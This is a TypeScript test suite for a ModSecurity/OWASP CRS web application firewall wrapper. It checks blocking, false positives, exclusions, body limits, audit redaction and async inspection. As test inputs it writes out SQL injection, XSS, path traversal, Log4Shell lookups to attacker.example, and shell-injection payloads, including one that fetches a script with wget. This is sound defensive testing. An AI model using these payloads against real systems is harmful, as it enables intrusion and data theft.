// The WAF against the real libmodsecurity 3 + OWASP CRS 3.3 from Debian, through the native addon.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { SnigateError } from '../errors.ts';
import { DEFAULT_ADDON_PATH } from './addon.ts';
import { auditLine, MAX_AUDIT_DATA } from './audit.ts';
import { benignCorpus } from './benign-corpus.ts';
import { WafConfigError } from './rules.ts';
import {
  blockResponse,
  loadWaf,
  requireWaf,
  type Waf,
  type WafOptions,
  type WafRequest,
  wafStatus,
} from './waf.ts';

const BUILD = fileURLToPath(new URL('../../native/build.sh', import.meta.url));
const SETUP =
  'apt-get install libmodsecurity3 libmodsecurity-dev modsecurity-crs g++ (see .ci/apt-packages.txt)';

// The addon is built at install; when the Debian packages arrived later (npm test's pretest), build it now.
before(() => {
  if (!existsSync(DEFAULT_ADDON_PATH) && !process.env.SNIGATE_MODSECURITY_ADDON) {
    const r = spawnSync('bash', [BUILD, '--strict'], { encoding: 'utf8', timeout: 120_000 });
    assert.equal(r.status, 0, `native/build.sh failed (${SETUP}):\n${r.stdout}\n${r.stderr}`);
  }
});

const wafs = new Map<string, Waf>();
function waf(opts: WafOptions = {}): Waf {
  const key = JSON.stringify(opts);
  let w = wafs.get(key);
  if (w === undefined) {
    const l = loadWaf(opts);
    assert.ok(l.available, `WAF unavailable (${SETUP}): ${l.available ? '' : l.reason}`);
    w = l.waf;
    wafs.set(key, w);
  }
  return w;
}

// Log4Shell payloads, built so no source string looks like a forgotten template placeholder.
const JNDI = (rest: string) => `$${'{'}${rest}}`;

const HEADERS = { host: 'api.example.com', 'user-agent': 'curl/8.5.0', accept: '*/*' };
function get(uri: string, headers: Record<string, string> = {}): WafRequest {
  return {
    method: 'GET',
    uri,
    httpVersion: '1.1',
    headers: { ...HEADERS, ...headers },
    clientIp: '203.0.113.7',
    clientPort: 40000,
  };
}
function post(uri: string, contentType: string, body: string): WafRequest {
  const b = Buffer.from(body);
  return {
    ...get(uri, { 'content-type': contentType, 'content-length': String(b.length) }),
    method: 'POST',
    body: b,
  };
}

// The GraphQL false positive the corpus shows (see the corpus tests below), excluded narrowly.
const GRAPHQL_EXCLUSION: WafOptions = {
  exclusions: {
    targets: [{ ruleIds: [932100], variable: 'ARGS', name: 'json.query', pathPrefix: '/graphql' }],
  },
};

describe('attacks are blocked at paranoia level 1 (block mode)', () => {
  const attacks: { name: string; req: WafRequest; family: RegExp }[] = [
    { name: 'SQLi in the query', req: get("/items?id=1'%20OR%201=1--"), family: /^942/ },
    { name: 'SQLi in the query, unencoded spaces', req: get("/search?q=x' OR 1=1--"), family: /^942/ },
    {
      name: 'SQLi in a form body',
      req: post('/login', 'application/x-www-form-urlencoded', "user=admin' OR 1=1--&pw=x"),
      family: /^942/,
    },
    {
      name: 'SQLi in a JSON body',
      req: post('/login', 'application/json', JSON.stringify({ user: "admin' OR 1=1--", pw: 'x' })),
      family: /^942/,
    },
    {
      name: 'XSS in the query',
      req: get('/s?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
      family: /^941/,
    },
    {
      name: 'XSS in a JSON body',
      req: post('/comments', 'application/json', JSON.stringify({ text: '<img src=x onerror=alert(1)>' })),
      family: /^941/,
    },
    { name: 'path traversal in an argument', req: get('/files?name=../../../../etc/passwd'), family: /^930/ },
    { name: 'path traversal in the path', req: get('/static/..%2f..%2f..%2fetc/passwd'), family: /^930/ },
    {
      name: 'Log4Shell in User-Agent',
      req: get('/', { 'user-agent': JNDI('jndi:ldap://attacker.example/a') }),
      family: /^11001$/,
    },
    {
      name: 'Log4Shell obfuscated in a header',
      req: get('/', {
        'x-api-version': JNDI(`${JNDI('lower:j')}ndi:${JNDI('lower:l')}dap://attacker.example/a`),
      }),
      family: /^11001$/,
    },
    {
      name: 'Log4Shell in an argument',
      req: get(`/x?a=${JNDI('jndi:rmi://attacker.example/a')}`),
      family: /^(11001|932130)$/,
    },
    { name: 'shell injection', req: get('/ping?host=8.8.8.8;cat%20/etc/passwd'), family: /^932/ },
    {
      name: 'shell injection in a form',
      req: post(
        '/tools/ping',
        'application/x-www-form-urlencoded',
        'host=127.0.0.1%3B%20wget%20http%3A%2F%2Fevil%2Fx.sh',
      ),
      family: /^932/,
    },
    {
      name: 'scanner user agent (Nikto)',
      req: get('/', { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' }),
      family: /^913100$/,
    },
    {
      name: 'scanner user agent (sqlmap)',
      req: get('/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
      family: /^913100$/,
    },
  ];
  for (const a of attacks) {
    test(a.name, () => {
      const v = waf().inspect(a.req);
      assert.equal(v.action, 'block', `${a.name}: ${v.messages.join(' | ')}`);
      assert.equal(v.status, 403);
      assert.equal(v.reason, 'anomaly-score');
      assert.ok(v.ruleIds.includes(949110), `949110 in ${v.ruleIds}`);
      assert.ok(
        v.ruleIds.some((id) => a.family.test(String(id))),
        `a ${a.family} rule in ${v.ruleIds}`,
      );
      assert.ok(v.anomalyScore !== null && v.anomalyScore >= 5);
    });
  }
  test(`all ${attacks.length} attacks blocked (summary)`, () => {
    const blocked = attacks.filter((a) => waf().inspect(a.req).action === 'block').length;
    assert.equal(blocked, attacks.length);
  });
});

describe('benign corpus', () => {
  const corpus = benignCorpus();
  test('has at least 200 realistic requests of every kind', () => {
    assert.ok(corpus.length >= 200, `${corpus.length}`);
    const kinds = new Set(corpus.map((e) => e.name.split(': ')[1]));
    for (const k of [
      'list',
      'long-query',
      'json-create',
      'merge-patch',
      'form-login',
      'multipart',
      'graphql',
      'octet-upload',
    ])
      assert.ok(kinds.has(k), k);
    assert.ok(
      corpus.some((e) => e.request.uri.length > 1000),
      'a long query string',
    );
    assert.ok(
      corpus.some((e) => /[\u0080-\uffff]/.test(e.request.body?.toString() ?? '')),
      'unicode bodies',
    );
  });

  test('passes with no false positive (paranoia 1, threshold 5, one GraphQL exclusion)', () => {
    const w = waf(GRAPHQL_EXCLUSION);
    const fps = corpus
      .map((e) => ({ e, v: w.inspect(e.request) }))
      .filter(({ v }) => v.wouldBlock)
      .map(({ e, v }) => `${e.name}: ${v.messages.join(' | ')}`);
    assert.deepEqual(fps, [], `${fps.length} false positives of ${corpus.length}`);
  });

  test('without exclusions, the only false positives are GraphQL documents hitting 932100', () => {
    const w = waf();
    const fps = corpus.map((e) => ({ e, v: w.inspect(e.request) })).filter(({ v }) => v.wouldBlock);
    for (const { e, v } of fps) {
      assert.match(e.name, /graphql/);
      assert.deepEqual(v.ruleIds, [932100, 949110]);
    }
    const graphql = corpus.filter((e) => e.name.endsWith('graphql')).length;
    assert.equal(fps.length, graphql);
  });

  test('the GraphQL exclusion is scoped: the same rule still fires on other paths and other arguments', () => {
    const w = waf(GRAPHQL_EXCLUSION);
    const shell = JSON.stringify({ query: 'x;cat /etc/passwd' });
    assert.equal(w.inspect(post('/api/query', 'application/json', shell)).action, 'block');
    const other = JSON.stringify({ query: '{ a }', variables: { cmd: 'x;cat /etc/passwd' } });
    assert.equal(w.inspect(post('/graphql', 'application/json', other)).action, 'block');
  });
});

describe('modes, levels and exclusions', () => {
  const sqli = get("/items?id=1'%20OR%201=1--");

  test('detection-only mode logs but forwards', () => {
    const v = waf({ mode: 'detect' }).inspect(sqli);
    assert.equal(v.action, 'allow');
    assert.equal(v.status, 0);
    assert.equal(v.wouldBlock, true);
    assert.equal(v.reason, 'anomaly-score');
    assert.deepEqual(v.ruleIds, [942100, 949110]);
    const line = auditLine(v, { requestId: 'r-1', clientIp: '203.0.113.7', method: 'GET', uri: sqli.uri });
    assert.ok(line !== null);
    assert.equal(JSON.parse(line).action, 'detected');
    assert.equal(waf({ mode: 'detect' }).inspect(get('/items?id=12')).wouldBlock, false);
  });

  test('a higher threshold lets a single critical match through; paranoia 2 catches what 1 does not', () => {
    const high = waf({ anomalyThreshold: 10 }).inspect(sqli);
    assert.equal(high.action, 'allow');
    assert.equal(high.wouldBlock, false);
    assert.deepEqual(high.ruleIds, [942100]);
    const weak = get('/s?q=1%20or%201');
    assert.equal(waf().inspect(weak).action, 'allow');
    const pl2 = waf({ paranoia: 2 }).inspect(weak);
    assert.equal(pl2.action, 'block');
    assert.ok(pl2.ruleIds.includes(942390));
  });

  test('rule removed globally (SecRuleRemoveById)', () => {
    assert.equal(waf({ exclusions: { ruleIds: [942100] } }).inspect(sqli).action, 'allow');
  });

  test('rule removed under a path prefix only (ctl:ruleRemoveById)', () => {
    const w = waf({ exclusions: { paths: [{ pathPrefix: '/legacy/', ruleIds: [942100] }] } });
    assert.equal(w.inspect(get("/legacy/items?id=1'%20OR%201=1--")).action, 'allow');
    assert.equal(w.inspect(sqli).action, 'block');
  });

  test('one argument exempted from a rule (SecRuleUpdateTargetById), the others still inspected', () => {
    const w = waf({ exclusions: { targets: [{ ruleIds: [942100], variable: 'ARGS', name: 'id' }] } });
    assert.equal(w.inspect(sqli).action, 'allow');
    assert.equal(w.inspect(get("/items?other=1'%20OR%201=1--")).action, 'block');
  });

  test('invalid options are a config error; no user string reaches a directive', () => {
    const bad: WafOptions[] = [
      { paranoia: 5 as 1 },
      { anomalyThreshold: 0 },
      { mode: 'log' as 'block' },
      { exclusions: { ruleIds: [-1] } },
      { exclusions: { ruleIds: ['942100' as unknown as number] } },
      { exclusions: { paths: [{ pathPrefix: '/a" "id:1,phase:1,deny', ruleIds: [1] }] } },
      { exclusions: { paths: [{ pathPrefix: '/a%{REQUEST_URI}', ruleIds: [1] }] } },
      { exclusions: { paths: [{ pathPrefix: '/a\nSecRuleEngine Off', ruleIds: [1] }] } },
      { exclusions: { paths: [{ pathPrefix: 'relative', ruleIds: [1] }] } },
      { exclusions: { targets: [{ ruleIds: [1], variable: 'ARGS', name: 'x" "id:2' }] } },
      { exclusions: { targets: [{ ruleIds: [1], variable: 'TX' as 'ARGS', name: 'x' }] } },
      { allowedMethods: ['GET POST'] },
      { allowedContentTypes: ["text/plain|'"] },
      { bodyLimitAction: 'drop' as 'reject' },
    ];
    for (const o of bad) assert.throws(() => loadWaf(o), WafConfigError, JSON.stringify(o));
  });
});

describe('streamed body, limits, response, audit', () => {
  test('an attack split across body chunks is seen at end()', () => {
    const w = waf();
    const body = "user=admin' OR 1=1--&pw=x";
    const tx = w.begin({
      ...get('/login', {
        'content-type': 'application/x-www-form-urlencoded',
        'content-length': String(body.length),
      }),
      method: 'POST',
    });
    try {
      assert.equal(tx.verdict().action, 'allow');
      for (let i = 0; i < body.length; i += 4)
        assert.equal(tx.write(Buffer.from(body.slice(i, i + 4))).action, 'allow');
      const v = tx.end();
      assert.equal(v.action, 'block');
      assert.ok(v.ruleIds.includes(942100));
    } finally {
      tx.close();
    }
    tx.close();
  });

  test('a header-only attack is decided at end(), with or without a body', () => {
    const tx = waf().begin({ ...get('/', { 'user-agent': 'sqlmap/1.7.2#stable' }), method: 'POST' });
    try {
      // CRS 3.3 runs most rules and the anomaly evaluation in phase 2: the head alone does not block yet, so the
      // proxy must call end() (even for a body-less request) before forwarding.
      assert.equal(tx.verdict().action, 'allow');
      const v = tx.end();
      assert.equal(v.action, 'block');
      assert.ok(v.ruleIds.includes(913100));
    } finally {
      tx.close();
    }
  });

  test('a body over the limit: 413 with reject, only the first part inspected with partial', () => {
    const big = Buffer.concat([Buffer.from(`text=${'a'.repeat(2000)}`), Buffer.from("&q=x' OR 1=1--")]);
    const req = post('/notes', 'application/x-www-form-urlencoded', big.toString());
    const rejected = waf({ requestBodyLimit: 1024 }).inspect(req);
    assert.equal(rejected.action, 'block');
    assert.equal(rejected.status, 413);
    assert.equal(rejected.reason, 'body-too-large');
    const partial = waf({ requestBodyLimit: 1024, bodyLimitAction: 'partial' }).inspect(req);
    assert.equal(partial.action, 'allow', partial.messages.join(' | '));
    assert.equal(waf({ requestBodyLimit: 1 << 20 }).inspect(req).action, 'block');
    const detect = waf({ requestBodyLimit: 1024, mode: 'detect' }).inspect(req);
    assert.equal(detect.action, 'allow');
    assert.equal(detect.reason, 'body-too-large');
  });

  test('an unparsable JSON body is refused (400, base rule 200002)', () => {
    const v = waf().inspect(post('/api', 'application/json', '{"a": [1, 2'));
    assert.equal(v.action, 'block');
    assert.equal(v.status, 400);
    assert.equal(v.reason, 'rule');
    assert.ok(v.ruleIds.includes(200002));
  });

  test('response headers are inspected after an allowed request', () => {
    const tx = waf().begin(get('/items?id=12'));
    try {
      assert.equal(tx.end().action, 'allow');
      const v = tx.response(200, { 'content-type': 'application/json', 'content-length': '17' });
      assert.equal(v.action, 'allow');
    } finally {
      tx.close();
    }
  });

  test('403 answer carries the request id; the audit line is one JSON line, redacted', () => {
    const secret = `${'A'.repeat(200)}\n\u0007`;
    const req = get(
      `/search?token=supersecret&q=%3Cscript%3Ealert(1)%3C/script%3E${encodeURIComponent(secret)}`,
    );
    const v = waf().inspect({ ...req, requestId: 'req-42' });
    assert.equal(v.action, 'block');
    const r = blockResponse(v, 'req-42');
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-request-id'], 'req-42');
    assert.match(r.body, /req-42/);
    assert.doesNotMatch(r.body, /941|script/);

    const line = auditLine(v, {
      requestId: 'req-42',
      clientIp: '203.0.113.7',
      method: 'GET',
      uri: req.uri,
      route: 'HTTPRoute/default/api',
    });
    assert.ok(line !== null);
    assert.doesNotMatch(line, /\n/);
    const rec = JSON.parse(line);
    assert.equal(rec.action, 'blocked');
    assert.equal(rec.requestId, 'req-42');
    assert.equal(rec.path, '/search');
    assert.doesNotMatch(line, /supersecret/);
    assert.ok(rec.ruleIds.includes(949110) && rec.ruleIds.some((id: number) => id >= 941000 && id < 942000));
    for (const m of rec.matches) assert.ok([...m.data].length <= MAX_AUDIT_DATA + 1, m.data);
    assert.doesNotMatch(line, /A{100}/);
    assert.equal(
      auditLine(waf().inspect(get('/ok')), { requestId: 'x', clientIp: '', method: 'GET', uri: '/ok' }),
      null,
    );
  });

  test('a closed transaction refuses further work; close is idempotent', () => {
    const tx = waf().begin(get('/'));
    tx.close();
    tx.close();
    assert.equal(tx.end().action, 'allow');
  });
});

describe('availability', () => {
  test('the WAF reports its version when available', () => {
    const s = wafStatus();
    assert.ok(s.available, s.available ? '' : s.reason);
    assert.match(s.version, /ModSecurity v3/);
  });

  test('no addon: unavailable with the reason, and a config asking for the WAF is refused', () => {
    const l = loadWaf({ addonPath: '/nonexistent/modsecurity.node' });
    assert.equal(l.available, false);
    assert.match(l.available ? '' : l.reason, /missing/);
    assert.throws(
      () => requireWaf(l),
      (err: unknown) => err instanceof SnigateError && err.code === 'SNIGATE_E_CONFIG_INVALID',
    );
    assert.match(wafStatus('/nonexistent/modsecurity.node').available ? '' : 'unavailable', /unavailable/);
  });

  test('no CRS: unavailable', () => {
    const l = loadWaf({ crsDir: '/nonexistent/crs' });
    assert.equal(l.available, false);
    assert.match(l.available ? '' : l.reason, /CRS not found/);
  });

  test('a broken addon file is reported, not thrown', () => {
    const dir = mkdtempSync(join(tmpdir(), 'snigate-waf-'));
    try {
      const path = join(dir, 'broken.node');
      writeFileSync(path, 'not an ELF shared object');
      const l = loadWaf({ addonPath: path });
      assert.equal(l.available, false);
      assert.match(l.available ? '' : l.reason, /failed to load/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// The async path (the proxy's): rule evaluation on libuv's threadpool, one work item per transaction at a time.
describe('async inspection on the threadpool', () => {
  const attackReqs: WafRequest[] = [
    get("/items?id=1'%20OR%201=1--"),
    get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    get('/download?file=../../../../etc/passwd'),
    get('/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
    post('/api/query', 'application/x-www-form-urlencoded', "q=x' UNION SELECT password FROM users--"),
    get('/ping?host=127.0.0.1;cat%20/etc/passwd'),
  ];
  // What the sync API says about a request, minus nothing: the async one must give exactly this.
  const shape = (v: ReturnType<Waf['inspect']>) => ({
    action: v.action,
    status: v.status,
    wouldBlock: v.wouldBlock,
    reason: v.reason,
    ruleIds: v.ruleIds,
    messages: v.messages,
    anomalyScore: v.anomalyScore,
    droppedMatches: v.droppedMatches,
  });

  test('50 attacks + 50 benign requests in parallel: the same verdicts as sequentially', async () => {
    const w = waf(GRAPHQL_EXCLUSION);
    const benign = benignCorpus().slice(0, 50);
    assert.equal(benign.length, 50);
    const reqs: WafRequest[] = [];
    for (let i = 0; i < 50; i++) {
      reqs.push(attackReqs[i % attackReqs.length]!);
      reqs.push(benign[i]!.request);
    }
    const sequential = reqs.map((r) => shape(w.inspect(r)));
    const parallel = (await Promise.all(reqs.map((r) => w.inspectAsync(r)))).map(shape);
    assert.deepEqual(parallel, sequential);
    assert.equal(parallel.filter((v) => v.action === 'block').length, 50);
    assert.equal(parallel.filter((v) => v.action === 'allow').length, 50);
  });

  test('body limits, detection-only and chunked bodies match the sync API', async () => {
    const big = Buffer.concat([Buffer.from(`text=${'a'.repeat(2000)}`), Buffer.from("&q=x' OR 1=1--")]);
    const req = post('/notes', 'application/x-www-form-urlencoded', big.toString());
    const sqli = get("/items?id=1'%20OR%201=1--");
    for (const opts of [
      { requestBodyLimit: 1024 },
      { requestBodyLimit: 1024, bodyLimitAction: 'partial' as const },
      { requestBodyLimit: 1024, mode: 'detect' as const },
      { requestBodyLimit: 1 << 20 },
      { mode: 'detect' as const },
    ]) {
      const w = waf(opts);
      for (const r of [req, sqli, get('/ok')]) {
        // Chunked: the sync path writes chunk by chunk, the async one hands all chunks to one work item.
        const chunks: Buffer[] = [];
        const body = r.body ?? Buffer.alloc(0);
        for (let i = 0; i < body.length; i += 300) chunks.push(Buffer.from(body.subarray(i, i + 300)));
        const s = w.begin(r);
        for (const c of chunks) s.write(c);
        const sync = shape(s.end());
        s.close();
        const a = await w.beginAsync(r);
        const async = shape(a.verdict().action === 'block' ? a.verdict() : await a.endAsync(chunks));
        a.release();
        assert.deepEqual(async, sync, `${JSON.stringify(opts)} ${r.method} ${r.uri}`);
      }
    }
    const rejected = await waf({ requestBodyLimit: 1024 }).inspectAsync(req);
    assert.equal(rejected.status, 413);
    assert.equal(rejected.reason, 'body-too-large');
  });

  test('the event loop keeps running while many transactions are inspected', async () => {
    const w = waf();
    const n = 200;
    const reqs = Array.from({ length: n }, (_, i) =>
      i % 2 === 0 ? attackReqs[i % attackReqs.length]! : get(`/items/${i}?page=2&sort=name`),
    );
    // The same work synchronously: the event loop is stalled for all of it.
    let t0 = performance.now();
    for (const r of reqs) w.inspect(r);
    const syncMs = performance.now() - t0;
    // Async: a timer keeps firing meanwhile; count its ticks and the longest gap between two of them.
    let ticks = 0;
    let maxGap = 0;
    t0 = performance.now();
    let last = t0;
    const timer = setInterval(() => {
      const now = performance.now();
      maxGap = Math.max(maxGap, now - last);
      last = now;
      ticks++;
    }, 1);
    try {
      const verdicts = await Promise.all(reqs.map((r) => w.inspectAsync(r)));
      assert.equal(verdicts.filter((v) => v.action === 'block').length, n / 2);
    } finally {
      clearInterval(timer);
    }
    // Generous bounds: the timer ran during the batch, and never waited anywhere near the synchronous stall.
    assert.ok(
      ticks >= 5,
      `timer ticks during the async batch: ${ticks} (sync batch took ${syncMs.toFixed(1)} ms)`,
    );
    assert.ok(
      maxGap < syncMs / 2,
      `longest timer gap ${maxGap.toFixed(1)} ms vs the sync batch stall ${syncMs.toFixed(1)} ms`,
    );
  });

  test('a transaction takes one work item at a time; release after in-flight work frees it', async () => {
    const w = waf();
    const tx = await w.beginAsync(post('/notes', 'text/plain', 'hello'));
    const pending = tx.endAsync([Buffer.from('hello')]);
    // A sync call while the body work item runs is refused by the addon rather than racing the worker.
    assert.throws(() => tx.response(200, {}), /busy/);
    // The client went away mid-inspection: release is deferred until the work item completes.
    tx.release();
    const v = await pending;
    assert.equal(v.action, 'allow');
    tx.release();
    tx.close();
    // Nothing left running: many released mid-flight transactions do not crash or hang.
    await Promise.all(
      Array.from({ length: 50 }, async (_, i) => {
        const t = await w.beginAsync(get(`/x/${i}`));
        const p = t.endAsync([]);
        t.release();
        await p;
      }),
    );
  });
});
